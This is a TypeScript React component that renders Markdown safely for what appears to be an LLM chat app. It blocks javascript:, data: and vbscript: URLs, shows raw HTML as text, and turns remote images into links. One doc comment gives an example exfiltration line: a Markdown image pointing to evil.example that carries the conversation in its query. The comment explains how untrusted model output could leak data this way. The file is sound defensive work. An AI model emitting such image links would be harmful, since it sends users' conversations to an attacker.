import ReactMarkdown, { defaultUrlTransform, type Components } from 'react-markdown';
import remarkGfm from 'remark-gfm';
import { CodeBlock } from './code-block';

/** Only these link and image schemes survive; anything else (javascript:, data:, vbscript:) is dropped. */
const SAFE = /^(https?:|mailto:|#|\/|\.\/|\.\.\/)/i;

export function safeUrl(url: string): string {
  const cleaned = defaultUrlTransform(url);
  if (!cleaned) return '';
  return SAFE.test(cleaned) || !/^[a-z][a-z0-9+.-]*:/i.test(cleaned) ? cleaned : '';
}

/**
 * Whether an image would load from another server. Model answers and skills are untrusted: a remote
 * image URL can carry the conversation in its query (`![x](https://evil.example/?d=...)`) and the
 * browser would send it on render, so those become links instead (the CSP's img-src blocks them too).
 */
export function isRemote(url: string): boolean {
  return /^[a-z][a-z0-9+.-]*:/i.test(url) || url.startsWith('//');
}

function RemoteImage({ src, alt }: { src: string; alt: string }) {
  let host = src;
  try {
    host = new URL(src, window.location.href).host;
  } catch {
    // not a URL a browser would load anyway
  }
  return (
    <a className="remote-image" href={src} target="_blank" rel="noopener noreferrer nofollow" title={src}>
      {alt || 'image'} (image from {host}, not loaded)
    </a>
  );
}

interface MdNode {
  type: string;
  children?: MdNode[];
}

/**
 * Raw HTML in Markdown is shown as the text it is, never rendered: so a template's `<Skill name>` or
 * `<situation>` reads as written (react-markdown's skipHtml would drop it), and `<script>` is just words.
 */
export function rawHtmlAsText() {
  const walk = (node: MdNode) => {
    if (node.type === 'html') node.type = 'text';
    node.children?.forEach(walk);
  };
  return walk;
}

interface HastNode {
  type: string;
  tagName?: string;
  value?: string;
  properties?: { className?: unknown };
  children?: HastNode[];
}

const textOf = (n: HastNode): string => (n.type === 'text' ? (n.value ?? '') : (n.children ?? []).map(textOf).join(''));

/** The elements rendered LLMos's way; one object for the module, so React keeps code blocks (and their state) across renders. */
const components: Components = {
  img: ({ src, alt }) => {
    if (typeof src !== 'string' || !src) return <span>{alt}</span>;
    return isRemote(src) ? <RemoteImage src={src} alt={alt ?? ''} /> : <img src={src} alt={alt ?? ''} />;
  },
  a: ({ href, children }) =>
    href ? (
      <a href={href} target="_blank" rel="noopener noreferrer nofollow">
        {children}
      </a>
    ) : (
      <span>{children}</span>
    ),
  pre: ({ node, children }) => {
    const code = (node as HastNode | undefined)?.children?.find((c) => c.tagName === 'code');
    if (!code) return <pre>{children}</pre>;
    const classes = Array.isArray(code.properties?.className) ? (code.properties.className as string[]) : [];
    const language = classes.find((c) => c.startsWith('language-'))?.slice('language-'.length);
    return <CodeBlock code={textOf(code).replace(/\n$/, '')} language={language} />;
  },
};

const plugins = [remarkGfm, rawHtmlAsText];

/**
 * Markdown rendered safely: GFM, raw HTML as text, no dangerous URLs, no remote images; code blocks
 * with Copy and highlighting.
 */
export function Markdown({ text }: { text: string }) {
  return (
    <div className="markdown">
      <ReactMarkdown remarkPlugins={plugins} urlTransform={safeUrl} components={components}>
        {text}
      </ReactMarkdown>
    </div>
  );
}
